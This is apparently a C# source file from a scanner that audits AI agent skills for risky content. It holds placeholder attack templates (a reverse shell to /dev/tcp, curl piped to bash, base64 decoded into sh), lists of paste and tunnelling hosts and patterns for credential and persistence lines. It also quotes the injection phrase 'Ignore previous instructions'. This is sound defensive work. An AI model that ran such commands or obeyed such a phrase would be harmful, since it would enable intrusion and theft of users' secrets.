using System.Text.RegularExpressions;

namespace OpenClaw.Desired.Resources.Skills.Audit;

/// <summary>
/// Where a download comes from decides what running it means: a vendor's documented installer (uv, Bun, Docker,
/// Homebrew, Tailscale…) is ordinary, a paste site or bare IP is a lure, anything else is unreviewed code.
/// The installer hosts are a data row, meant to grow.
/// </summary>
public static partial class Origins
{
    /// <summary>Hosts (and host/path prefixes) that serve a vendor's own documented install script.</summary>
    public static IReadOnlyList<string> VendorInstallers { get; } =
    [
        "astral.sh", "bun.sh", "deno.land", "deno.com", "sh.rustup.rs", "rustup.rs", "get.docker.com", "raw.githubusercontent.com/Homebrew/", "brew.sh",
        "ollama.com", "ollama.ai", "tailscale.com", "aka.ms", "cli.github.com", "get.pnpm.io", "install.python-poetry.org", "pyenv.run", "fnm.vercel.app",
        "starship.rs", "get.k3s.io", "sh.vector.dev", "install.determinate.systems", "nixos.org", "foundry.paradigm.xyz", "release.solana.com",
        "release.anza.xyz", "claude.ai", "openclaw.ai", "opencode.ai", "cursor.com", "get.helm.sh", "raw.githubusercontent.com/nvm-sh/", "get.volta.sh",
        "sdk.cloud.google.com", "awscli.amazonaws.com", "fly.io", "deb.nodesource.com", "rpm.nodesource.com", "get.rvm.io", "mise.run", "get.jetpack.io",
        "install.duckdb.org", "cli.doppler.com", "get.pulumi.com", "get.sdkman.io", "bitwarden.com", "1password.com", "cli.vercel.com", "supabase.com",
        "repo.anaconda.com", "repo.continuum.io", "github.com/conda-forge/miniforge/", "dl.k8s.io", "raw.githubusercontent.com/aquasecurity/",
        "raw.githubusercontent.com/anchore/", "get.trunk.io", "install.terraform.io", "firebase.tools", "get.scoop.sh", "setup.atuin.sh", "rclone.org",
        "raw.githubusercontent.com/ohmyzsh/", "install.ohmyz.sh", "raw.githubusercontent.com/helm/", "get.acme.sh", "zed.dev", "install.pi-hole.net",
        "raw.githubusercontent.com/pyenv/", "pkgx.sh", "get.chezmoi.io", "get.jetify.com", "get.k0s.sh", "install.meteor.com", "code-server.dev",
        "raw.githubusercontent.com/golangci/", "install.crystal-lang.org", "get.wasmer.io", "wasmtime.dev", "dot.net", "install.julialang.org", "ohmyposh.dev",
        "direnv.net", "just.systems", "raw.githubusercontent.com/ajeetdsouza/zoxide/", "raw.githubusercontent.com/rbenv/", "dprint.dev",
        "raw.githubusercontent.com/jesseduffield/", "atuin.sh", "get.static-web-server.net", "moonrepo.dev", "keploy.io", "pixi.sh",
    ];

    /// <summary>download-exec: medium from a vendor's documented installer host, critical from anywhere else.</summary>
    public static AuditSeverity? JudgeDownloadExec(string text, Match match)
    {
        // "bash -c "$(curl -fsSL URL)"" matches before its URL: the host is on the rest of the line. A URL with its
        // scheme comes first, so the file a download is saved to (curl -o ~/x/miniconda.sh URL) is not taken for a host.
        var host = SchemeUrl().Match(match.Value) is { Success: true } withScheme ? withScheme : Url().Match(match.Value);
        if (!host.Success)
        {
            var end = text.IndexOf('\n', match.Index + match.Length);
            host = Url().Match(text[match.Index..(end < 0 ? text.Length : end)]);
        }

        if (IsTemplate(match.Value))
        {
            return AuditSeverity.Low;
        }

        var target = host.Success ? host.Groups["target"].Value : match.Value;
        if (Untrusted().IsMatch(target))
        {
            return AuditSeverity.Critical;
        }

        return VendorInstallers.Any(v => target.StartsWith(v, StringComparison.OrdinalIgnoreCase) || target.Contains("." + v, StringComparison.OrdinalIgnoreCase))
            ? AuditSeverity.Medium
            : AuditSeverity.Critical;
    }


    /// <summary>
    /// A command whose target is a placeholder (<c>curl http://&lt;ip&gt;/x | bash</c>, <c>bash -i &gt;&amp; /dev/tcp/&lt;ip&gt;/&lt;port&gt;</c>,
    /// <c>echo '&lt;base64&gt;' | base64 -d | sh</c>) is the shape of an attack a scanner matches, not one that can run.
    /// </summary>
    public static bool IsTemplate(string command) => Template().IsMatch(command);

    /// <summary>A critical command, low as a <see cref="IsTemplate">template</see>.</summary>
    public static AuditSeverity? JudgeTemplate(string text, Match match)
    {
        // The command the match is in (a line holds several after ';', '&&', '||'), and only when it has no real target.
        var line = LineJudges.LineOf(text, match.Index);
        var segment = Segments().Split(line).FirstOrDefault(s => s.Contains(match.Value.Length > 12 ? match.Value[..12] : match.Value, StringComparison.Ordinal)) ?? line;
        return IsTemplate(segment) && !RealTarget().IsMatch(segment) ? AuditSeverity.Low : AuditSeverity.Critical;
    }

    [GeneratedRegex(@"(?:://|/dev/(?:tcp|udp)/|\becho\s+['""]?|<<<\s*['""]?|-(?:EncodedCommand|enc|e)\s+|\bnc\s+(?:-\w+\s+)*)<[\w .…|-]{1,30}>", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Template();

    [GeneratedRegex(@";|&&|\|\|")]
    private static partial Regex Segments();

    /// <summary>What a runnable command has and a template has not: a URL, an address or a payload.</summary>
    [GeneratedRegex(@"://[^\s<'""]|/dev/(?:tcp|udp)/[^<\s]|[A-Za-z0-9+/]{24,}={0,2}", RegexOptions.CultureInvariant)]
    private static partial Regex RealTarget();

    /// <summary>
    /// A collection service's host alone in quotes (<c>"webhook.site"</c>, <c>'requestbin.net'</c>) is an entry of a
    /// list, a guard's blocklist or a scanner's indicators: no request goes to a host without a path.
    /// </summary>
    public static bool IsQuotedHost(string text, Match match)
    {
        if (match.Value.AsSpan().IndexOfAny(":/") >= 0)
        {
            return false;
        }

        var end = match.Index + match.Length;
        while (end < text.Length && (char.IsAsciiLetterOrDigit(text[end]) || text[end] is '.' or '-'))
        {
            end++;
        }

        return match.Index > 0 && text[match.Index - 1] is '"' or '\'' or '`' && end < text.Length && text[end] == text[match.Index - 1];
    }

    /// <summary>A collection service named: low as a host alone in quotes (<see cref="IsQuotedHost"/>), otherwise as <see cref="JudgeLink"/> judges it.</summary>
    public static AuditSeverity? JudgeEndpoint(string text, Match match) =>
        IsQuotedHost(text, match) ? AuditSeverity.Low : JudgeLink(text, match);

    /// <summary>A link that is a placeholder (<c>YOUR_ID</c>, <c>&lt;your-url&gt;</c>, <c>…</c>) or an image is configuration or decoration, not a sink.</summary>
    public static AuditSeverity? JudgeLink(string text, Match match)
    {
        var end = match.Index + match.Length;
        var stop = text.AsSpan(end).IndexOfAny(" \t\r\n\"'`)>]");
        var rest = text.AsSpan(end, stop < 0 ? Math.Min(200, text.Length - end) : stop);
        var before = text.AsSpan(Math.Max(0, match.Index - 40), match.Index - Math.Max(0, match.Index - 40));
        if (Placeholder().IsMatch(rest) || Placeholder().IsMatch(before[(before.LastIndexOfAny(" \t\n\"'`(") + 1)..])
            || Image().IsMatch(rest) || before.Contains("![", StringComparison.Ordinal))
        {
            return null;
        }

        return AuditSeverity.Medium;
    }

    /// <summary>
    /// A recipient of a handover (<see cref="Signal.Recipient"/>): an e-mail address, a chat handle or bot, or a page no
    /// one vouches for (paste site, shortener, form service, bare IP) always counts. Telegram's own bots (@BotFather)
    /// do not, nor does a placeholder, nor a page the reader is sent to for getting a key ("get your API key at …"),
    /// nor a page on a host the skill names elsewhere: its provider's own.
    /// </summary>
    public static AuditSeverity? JudgeRecipient(string text, Match match)
    {
        var value = match.Value;
        if (OfficialBot().IsMatch(value) || JudgeLink(text, match) is null)
        {
            return null;
        }

        var url = Url().Match(value);
        if (!value.Contains("://", StringComparison.Ordinal) || !url.Success)
        {
            return AuditSeverity.Low;
        }

        var target = url.Groups["target"].Value;
        if (Untrusted().IsMatch(target) || FormService().IsMatch(target))
        {
            return AuditSeverity.Low;
        }

        // The user's own settings on a code host (a repository's or account's secrets page) is where a token is configured.
        if (OwnSettings().IsMatch(target))
        {
            return null;
        }

        var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
        if (GetsAKey().IsMatch(text.AsSpan(lineStart, match.Index - lineStart)))
        {
            return null;
        }

        // The provider's own pages: its domain (the last two labels) named elsewhere in the file, off this line.
        var host = target.Split('/')[0];
        var labels = host.Split('.');
        var domain = labels.Length >= 2 ? $"{labels[^2]}.{labels[^1]}" : host;
        var lineEnd = text.IndexOf('\n', match.Index);
        lineEnd = lineEnd < 0 ? text.Length : lineEnd;
        // Off this line, or (a wrapped paragraph is one line) elsewhere than in this link.
        return text.AsSpan(0, lineStart).Contains(domain, StringComparison.OrdinalIgnoreCase) || text.AsSpan(lineEnd).Contains(domain, StringComparison.OrdinalIgnoreCase)
            || Occurrences(text.AsSpan(lineStart, lineEnd - lineStart), domain) > Occurrences(value, domain)
            ? null
            : AuditSeverity.Low;
    }

    private static int Occurrences(ReadOnlySpan<char> text, string value)
    {
        var count = 0;
        for (var at = text.IndexOf(value, StringComparison.OrdinalIgnoreCase); at >= 0; at = text[(at + value.Length)..].IndexOf(value, StringComparison.OrdinalIgnoreCase) is var next && next >= 0 ? at + value.Length + next : -1)
        {
            count++;
        }

        return count;
    }

    [GeneratedRegex(@"^(?:github\.com|gitlab\.com|bitbucket\.org)/(?:[^/\s]+/){0,2}(?:-/)?settings/", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex OwnSettings();

    [GeneratedRegex(@"@(?:BotFather|userinfobot|RawDataBot|GetIDsBot|SpamBot|discord|telegram)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex OfficialBot();

    [GeneratedRegex(@"^(?:forms\.gle|docs\.google\.com/forms|(?:[\w-]+\.)*(?:typeform\.com|jotform\.com|tally\.so|formspree\.io|forms\.office\.com|airtable\.com/shr|form\.jotform|surveymonkey\.com|wufoo\.com))", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex FormService();

    /// <summary>The clause before a link says where a key comes from, not where it goes (and names no request that carries it there).</summary>
    [GeneratedRegex(@"\b(?:get|obtain|create|generate|find|grab|copy|retrieve|sign\s+up|log\s+in|register|docs|documentation)\b(?:(?!\b(?:post|put|send|upload|body|request|submit)\b)[^.!?:;]){0,80}$|\b(?:available|found|issued)\s+(?:at|on|in|from|via|by)\b(?:(?!\b(?:post|put|send|upload|body|request|submit)\b)[^.!?:;]){0,30}$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex GetsAKey();

    [GeneratedRegex(@"(?:https?://|\b)(?<target>(?:[\w-]+\.)+[a-z]{2,}(?:/[^\s|;""']*)?|(?:\d{1,3}\.){3}\d{1,3}[^\s|;""']*)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Url();

    [GeneratedRegex(@"https?://(?<target>(?:[\w-]+\.)+[a-z]{2,}(?:/[^\s|;""']*)?|(?:\d{1,3}\.){3}\d{1,3}[^\s|;""']*)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex SchemeUrl();

    [GeneratedRegex(@"^(?:(?:\d{1,3}\.){3}\d{1,3}|(?:[\w-]+\.)*(?:glot\.io|pastebin\.com|paste\.ee|rentry\.(?:co|org)|hastebin\.\w+|0x0\.st|transfer\.sh|temp\.sh|termbin\.com|bit\.ly|tinyurl\.com|is\.gd|gist\.githubusercontent\.com|raw\.githack\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|bore\.pub|duckdns\.org))\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Untrusted();

    [GeneratedRegex(@"YOUR[_-]|<[^>]*>|\.\.\.|…|\{\{|\$\{|\$[A-Z_][A-Z0-9_]{2,}\b|%[A-Z_][A-Z0-9_]*%|xxx|example|placeholder", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Placeholder();

    [GeneratedRegex(@"\.(?:png|jpe?g|gif|webp|svg|ico|mp4|webm|mp3)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Image();
}

/// <summary>Judgements that look at the matched line: is this persistence or a PATH line, an injection or a quote of one.</summary>
public static partial class LineJudges
{
    /// <summary>Zero-width joiners and variation selectors inside emoji sequences (👨‍💻) are how emoji are written, not hidden text.</summary>
    public static AuditSeverity? JudgeHiddenUnicode(string text, Match match)
    {
        var c = match.Value[0];
        if (c is '\u200D' && match.Index > 0 && match.Index + 1 < text.Length && IsEmojiPart(text, match.Index - 1) && IsEmojiPart(text, match.Index + 1))
        {
            return null;
        }

        return AuditSeverity.High;
    }

    /// <summary>
    /// SSH keys, cron and shell start-up files running something are persistence (high); a service the skill
    /// documents for itself (systemd unit, LaunchAgent) is medium; a start-up line that only exports a variable,
    /// sets an alias or extends PATH is configuration, not a finding.
    /// </summary>
    public static AuditSeverity? JudgePersistence(string text, Match match)
    {
        var line = LineOf(text, match.Index);
        if (line.Contains("authorized_keys", StringComparison.Ordinal) || line.Contains("@reboot", StringComparison.Ordinal))
        {
            return AuditSeverity.High;
        }

        if (line.Contains("crontab", StringComparison.Ordinal) || line.Contains("/cron", StringComparison.Ordinal))
        {
            // A scheduled report the skill documents is a job; one that fetches, decodes, hides or calls out is a foothold.
            return ScheduledFoothold().IsMatch(line) ? AuditSeverity.High : AuditSeverity.Medium;
        }

        if (StartupFile().IsMatch(match.Value))
        {
            // "~/dotfiles/<package>/.zshrc": the '>' closes a placeholder, it redirects nothing.
            if (match.Value.StartsWith('>') && match.Length > 1 && match.Value[1] == '/' && ClosesPlaceholder().IsMatch(text.AsSpan(Math.Max(0, match.Index - 40), Math.Min(40, match.Index))))
            {
                return null;
            }

            // Only the command that writes the file: "echo 'curl x|sh' >> ~/.bashrc; echo 'export A=1'" is no configuration.
            var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
            var before = text[lineStart..match.Index];
            var command = before[LastCommandStart(before)..];
            return ConfigurationOnly().IsMatch(command) ? null : AuditSeverity.High;
        }

        return AuditSeverity.Medium;
    }

    /// <summary>How far back a clause is read for a negation.</summary>
    private const int ClauseReach = 300;

    /// <summary>
    /// "Never share your API key", "do not send your private key to anyone": a warning, not an instruction. The clause
    /// before the match (from the last sentence or clause break on its line) says not to.
    /// </summary>
    public static AuditSeverity? JudgeNotNegated(string text, Match match)
    {
        // The clause is read back to its line's start, at most ClauseReach characters: a long line costs no more per match.
        var reach = Math.Min(ClauseReach, match.Index);
        var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1, reach) + 1;
        lineStart = lineStart == 0 ? match.Index - reach : lineStart;
        var before = text.AsSpan(lineStart, match.Index - lineStart);
        var clause = before[(before.LastIndexOfAny(".!?:;") + 1)..];
        return Negation().IsMatch(clause) ? null : AuditSeverity.Low;
    }

    /// <summary>
    /// A handover of a secret, unless the clause says not to ("never share your API key") or the secret is what to leave
    /// out ("send the log (remove your API key first)", "if you lost your API key").
    /// </summary>
    public static AuditSeverity? JudgeHandover(string text, Match match) =>
        JudgeNotNegated(text, match) is null || LeftOut().IsMatch(match.Value) ? null : AuditSeverity.Low;

    [GeneratedRegex(@"\b(?:never|not|don't|dont|avoid|without|no\s+one|nobody|beware|scam\w*|phish\w*|warn\w*)\b|n't\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Negation();

    /// <summary>Whether the text says the secret is what to leave out ("remove your tokens", "without the key").</summary>
    internal static bool LeavesOut(string text) => LeftOut().IsMatch(text);

    /// <summary>Whether the text says not to ("never", "do not"…), as <see cref="JudgeNotNegated"/> reads a clause.</summary>
    internal static bool Negates(string text) => Negation().IsMatch(text);

    [GeneratedRegex(@"\b(?:remov\w*|redact\w*|mask\w*|strip\w*|hid(?:e|ing)|without|except|lost|lose|forgot\w*|revok\w*|rotat\w*|never|not)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex LeftOut();

    /// <summary>"Ignore previous instructions" in quotes is an example of injection (security tools list them); bare, it is one.</summary>
    public static AuditSeverity? JudgeQuoted(string text, Match match)
    {
        var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
        var line = LineOf(text, match.Index);
        return AuditContext.IsQuoted(line, match.Index - lineStart, match.Index - lineStart + match.Length) ? AuditSeverity.Medium : AuditSeverity.High;
    }

    /// <summary>
    /// An SSH key handed to ssh, scp, rsync or git with <c>-i</c> (or <c>IdentityFile</c>) signs the user in to their own
    /// server: it is used, not read for sending, when it is the only key the line names (a key copied beside it still counts).
    /// </summary>
    public static AuditSeverity? JudgeCredentialRead(string text, Match match) =>
        IdentityUse().IsMatch(match.Value) && KeyNames().Count(match.Value) == 1 || ExcludedPath().IsMatch(match.Value) ? null : AuditSeverity.Medium;

    /// <summary>A path an archive or copy leaves out (<c>--exclude='.ssh/*'</c>): the match ends at it.</summary>
    [GeneratedRegex(@"--exclude(?:-from)?[= ]+[""']?[^\s""']*[""']?.?$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ExcludedPath();

    [GeneratedRegex(@"\.ssh[/\\]+(?:id_[a-z0-9_]+|identity|\$\{?\w+\}?)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex KeyNames();

    [GeneratedRegex(@"(?:\s-i\s*|IdentityFile[\s=]+)[""']?[^\s""']*\.ssh[/\\]+(?:id_[a-z0-9_]+|identity|\$\{\w+\}|\$\w+)[^\w.]?$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex IdentityUse();

    /// <summary>
    /// "Do not use <c>xattr</c> on apps from anywhere else", "use Open Anyway only for a file you have verified": a
    /// line that warns against lifting a protection, or allows it only after a check, is the opposite of a lure's step;
    /// so is a line under a heading that says so ("What this skill will never recommend", "Don't").
    /// </summary>
    public static AuditSeverity? JudgeCaution(string text, Match match) =>
        Caution().IsMatch(LineOf(text, match.Index)) || NeverHeading().IsMatch(HeadingAbove(text, match.Index)) || AboutHeading().IsMatch(LineOf(text, match.Index)) ? null : AuditSeverity.Low;

    /// <summary>A heading that names the command it explains ("## About `xattr -d com.apple.quarantine`", "### Why not spctl --master-disable"): a title, not a step.</summary>
    [GeneratedRegex(@"^[ \t]*#{1,6}[ \t]+(?:about|why|what|understanding|on|a\s+note\s+on|note\s+on|explain\w*|how\s+\S+\s+works)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex AboutHeading();

    /// <summary>The Markdown heading the offset is under (within 60 lines above), or nothing.</summary>
    private static string HeadingAbove(string text, int offset)
    {
        var end = offset;
        for (var i = 0; i < 60 && end > 0; i++)
        {
            var start = text.LastIndexOf('\n', end - 1) + 1;
            if (text.AsSpan(start, end - start).TrimStart().StartsWith("#"))
            {
                return text[start..end];
            }

            end = Math.Max(0, start - 1);
        }

        return string.Empty;
    }

    [GeneratedRegex(@"^\s*#+[^\n]*\b(?:never|don'?t|do\s+not|avoid|not\s+recommend\w*|what\s+not\s+to|red\s+flags|warning\s+signs)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex NeverHeading();

    /// <summary>chmod 777 on one program is careless, not disabling a control; the rest of the rule is.</summary>
    public static AuditSeverity? JudgeSecurityDisable(string text, Match match) =>
        match.Value.StartsWith("chmod", StringComparison.OrdinalIgnoreCase) && !Regex.IsMatch(match.Value, @"777\s+(?:/|~)\s*$") ? AuditSeverity.Medium : AuditSeverity.High;

    /// <summary>
    /// A password on an archive the skill makes (<c>zip -e notes.zip</c>, <c>7z a -p</c>) keeps the user's own files
    /// private: low. On one it hands over, to be downloaded or opened, it hides what the archive holds: high.
    /// </summary>
    public static AuditSeverity? JudgeArchivePassword(string text, Match match) =>
        OwnArchive(text, match) ? AuditSeverity.Low : AuditSeverity.High;

    /// <summary>As evidence of a lure's archive password, a line about an archive of one's own does not count, nor one that warns against such archives.</summary>
    public static AuditSeverity? JudgeArchivePasswordEvidence(string text, Match match) =>
        OwnArchive(text, match) || ArchiveCaution().IsMatch(LineOf(text, match.Index)) ? null : AuditSeverity.Low;

    /// <summary>A sentence that warns the reader off such archives ("the agent should not advise that for … a password-protected zip").</summary>
    [GeneratedRegex(@"\b(?:never|do\s+not|don'?t|should\s+[*_]*not|must\s+[*_]*not)[*_]*\s+[*_]*(?:advise|open|run|download|use|install|trust|extract|recommend)\b|\bavoid\b|\bbeware\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ArchiveCaution();

    /// <summary>
    /// The archive is the skill's own: this line makes it, or it tests or restores one while the document makes its
    /// archives itself and the line neither links, downloads nor gives a password.
    /// </summary>
    private static bool OwnArchive(string text, Match match)
    {
        var line = LineOf(text, match.Index);
        if (MakesArchive().IsMatch(line))
        {
            return !OpensArchive().IsMatch(line);
        }

        return !HandedOver().IsMatch(line) && MakesArchive().IsMatch(text);
    }

    [GeneratedRegex(@"\b(?:download\w*|releases?|https?://|www\.)|\b(?:pass(?:word)?|pwd|pw|key|code)\s*[:=]\s*[`'""]?\w", RegexOptions.IgnoreCase)]
    private static partial Regex HandedOver();

    [GeneratedRegex(@"\b(?:do\s+not|don'?t|never|avoid|(?:should|must|will)\s+[*_]*not\b|only\s+(?:for|if|when|after)|unless|checksum\s+matches|can\s+verify|you\s+(?:have\s+)?verified|instead\s+of|rather\s+than|is\s+what\s+protects|warning|caution|nunca|no\s+(?:uses|use|desactives)|nicht|niemals|jamais|ne\s+pas|никогда|не\s+(?:отключайте|используйте))\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Caution();

    [GeneratedRegex(@"\b(?:curl|wget|fetch|nc|ncat|base64|python[23]?\s+-c|bash\s+-c|sh\s+-c|osascript)\b|/dev/tcp/|/tmp/|/\.[\w-]+/|https?://|\d{1,3}(?:\.\d{1,3}){3}", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ScheduledFoothold();

    [GeneratedRegex(@"(?<![\w.$@%-])zip\s+(?:-[A-Za-z]*[eP][A-Za-z]*|--encrypt|--password)\b|\b7z[a-z]?\s+a\b|\bAESZipFile\s*\([^\n]*['""][wa]['""]", RegexOptions.IgnoreCase)]
    private static partial Regex MakesArchive();

    [GeneratedRegex(@"\b(?:unzip|unrar|extract\w*|download\w*|releases?|open\s+(?:it|the\s+archive)|https?://)|\b7z[a-z]?\s+[ex]\b", RegexOptions.IgnoreCase)]
    private static partial Regex OpensArchive();

    private static bool IsEmojiPart(string text, int index)
    {
        var c = text[index];
        return char.IsSurrogate(c) || c is >= '\u2600' and <= '\u27BF' or '\uFE0F' or >= '\u2640' and <= '\u2642';
    }

    internal static string LineOf(string text, int offset)
    {
        var start = offset == 0 ? 0 : text.LastIndexOf('\n', offset - 1) + 1;
        var end = text.IndexOf('\n', offset);
        return text[start..(end < 0 ? text.Length : end)];
    }

    [GeneratedRegex(@"\.(?:bashrc|zshrc|profile|bash_profile|zprofile|bash_login|zlogin)\b")]
    private static partial Regex StartupFile();

    /// <summary>Where the last command of a line starts: after its last ';', '&amp;&amp;' or '||' outside quotes (at that separator), or 0.</summary>
    private static int LastCommandStart(string line)
    {
        var start = 0;
        var quote = '\0';
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quote != '\0')
            {
                quote = c == quote ? '\0' : quote;
            }
            else if (c is '\'' or '"')
            {
                quote = c;
            }
            else if (c == ';' || (c is '&' or '|' && i + 1 < line.Length && line[i + 1] == c))
            {
                start = i;
            }
        }

        return start;
    }

    [GeneratedRegex(@"/<[\w.-]+$")]
    private static partial Regex ClosesPlaceholder();

    [GeneratedRegex(@"(?:^|\|\||&&|;)\s*(?:echo|printf)\s+['""]?\s*(?:export\s+\w+=|alias\s|source\s|\.\s|PATH=|eval\s+\\?""?\$\((?:[\w./~-]*/)?\w[\w-]*\s+(?:init|env|shellenv|completion|hook|activate)|fpath|autoload|#|for\s+\w+\s+in\s+[~$][^;'""]*;\s*do\s+(?:source|\.)\s)", RegexOptions.IgnoreCase)]
    private static partial Regex ConfigurationOnly();
}
